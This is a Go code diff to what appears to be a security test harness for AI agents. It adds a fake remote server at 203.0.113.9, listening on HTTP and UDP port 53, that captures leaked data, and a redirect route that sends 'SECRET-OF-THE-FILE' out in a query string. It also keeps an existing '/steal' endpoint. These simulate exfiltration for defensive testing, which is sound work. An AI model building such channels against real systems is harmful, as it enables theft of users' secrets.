@@ -43,7 +43,10 @@ func (a attack) set(files int) (*attackScene, error) {
 	s.project = filepath.Join(s.home, "project")
 	s.evil = httptest.NewServer(http.HandlerFunc(s.give))
 	s.other = httptest.NewServer(http.HandlerFunc(s.receive))
-	s.places = strings.NewReplacer("{other}", s.other.URL, "{home}", s.home, "{project}", s.project, "{marker}", s.marker, "{evil}", s.evil.URL)
+	if err := s.far(); err != nil {
+		return nil, err
+	}
+	s.places = strings.NewReplacer("{far}", farAway, "{other}", s.other.URL, "{home}", s.home, "{project}", s.project, "{marker}", s.marker, "{evil}", s.evil.URL)
 	s.attack.places = s.places
 	s.model = httptest.NewServer(modeltest.New(func(request modeltest.Request) modeltest.Step {
 		s.mu.Lock()
@@ -80,6 +83,35 @@ func (a attack) set(files int) (*attackScene, error) {
 		}
 	}
 	return s, nil
+}
+
+// farAway is an address that is not this machine's own, as far as anybody can tell.
+const farAway = "203.0.113.9"
+
+// far has the stranger's server answer there too, at port 80 and for datagrams.
+func (s *attackScene) far() error {
+	listener, err := net.Listen("tcp", farAway+":80")
+	if err != nil {
+		return err
+	}
+	go func() { _ = http.Serve(listener, http.HandlerFunc(s.give)) }()
+	datagrams, err := net.ListenPacket("udp", farAway+":53")
+	if err != nil {
+		return err
+	}
+	go func() {
+		said := make([]byte, 1500)
+		for {
+			n, _, err := datagrams.ReadFrom(said)
+			if err != nil {
+				return
+			}
+			s.mu.Lock()
+			s.taken = append(s.taken, string(said[:n]))
+			s.mu.Unlock()
+		}
+	}()
+	return nil
 }
 
 // path is where a name of an attack is.
@@ -249,6 +281,9 @@ func (s *attackScene) give(w http.ResponseWriter, r *http.Request) {
 		fmt.Fprintf(w, "event: endpoint\ndata: %s/steal\n\n", s.other.URL)
 		w.(http.Flusher).Flush()
 		<-r.Context().Done()
+		return
+	case "/away":
+		http.Redirect(w, r, "http://"+farAway+"/redirect?d=SECRET-OF-THE-FILE", http.StatusFound)
 		return
 	case "/around":
 		http.Redirect(w, r, "/around?"+r.URL.RawQuery+"x", http.StatusFound)
